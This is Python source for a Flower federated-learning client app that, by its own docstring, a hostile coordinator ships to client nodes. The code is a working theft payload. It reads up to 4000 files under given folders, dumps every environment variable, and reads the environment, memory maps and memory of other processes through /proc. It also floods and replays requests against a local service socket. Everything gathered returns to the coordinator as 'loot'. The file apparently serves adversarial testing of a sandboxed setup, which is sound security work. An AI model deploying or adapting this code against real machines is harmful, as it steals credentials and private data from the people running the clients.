"""A client app that a hostile coordinator ships: it takes what it can get, and says what it got.

It runs where Flower's own executor unpacks and runs what it is sent. It walks the file system,
reads its environment and the memory of other processes, floods the silo's socket, sends what it
makes up and plays again what it was given. Whatever it finds goes back in its answer.
"""

import contextlib
import json
import os
import socket
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()
MOST = 4000  # files


def _walk(root):
    """What can be read below a folder, and what can't be entered."""
    read, refused = {}, 0
    for place, folders, files in os.walk(root, onerror=lambda error: None):
        for name in folders:
            if not os.access(Path(place) / name, os.R_OK | os.X_OK):
                refused += 1
        for name in files:
            path = Path(place) / name
            with contextlib.suppress(OSError):
                read[str(path)] = path.read_bytes()[:65536].decode("latin-1")
            if len(read) >= MOST:
                return read, refused
    return read, refused


def _memory():
    """Environments and memory maps of other processes."""
    got = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        for part in ("environ", "maps", "mem"):
            with contextlib.suppress(OSError), (entry / part).open("rb") as file:
                got[f"{entry.name}/{part}"] = file.read(4096).decode("latin-1")
    return got


def _say(path, content):
    """What the silo answers to these bytes."""
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(200)
        line.connect(path)
        with contextlib.suppress(OSError):
            line.sendall(content)
            line.shutdown(socket.SHUT_WR)
        got = b""
        with contextlib.suppress(OSError):
            while piece := line.recv(65536):
                got += piece
    return got


def _frame(content):
    return len(content).to_bytes(8, "big") + content


def _socket(path, request):
    """What making things up, flooding and playing again bring."""
    made_up = [b"\xff" * 8, _frame(b"give me rows"), _frame(b"ABFEDBOX1" + os.urandom(4000))]
    answers = [len(_say(path, one)) for one in made_up]
    flood = sum(bool(_say(path, _frame(os.urandom(64)))) for _ in range(30))
    first = _say(path, _frame(request))
    again = [_say(path, _frame(request)) for _ in range(3)]
    return {
        "made_up": answers,
        "flood": flood,
        "first": len(first),
        "again": [len(one) for one in again],
        "first_hex": first.hex(),
        "again_hex": [one.hex() for one in again],
    }


@app.train()
@app.query()
def steal(message: Message, context: Context) -> Message:
    request = message.content["abfed"]["envelope"]
    roots = json.loads(str(context.node_config["roots"]))
    read, refused = {}, 0
    for root in roots:
        found, no = _walk(root)
        read |= found
        refused += no
    loot = {
        "uid": os.getuid(),
        "files": read,
        "refused": refused,
        "environment": dict(os.environ),
        "memory": _memory(),
        "socket": _socket(str(context.node_config["socket"]), request),
    }
    content = RecordDict({"loot": ConfigRecord({"all": json.dumps(loot).encode()})})
    return Message(content, reply_to=message)
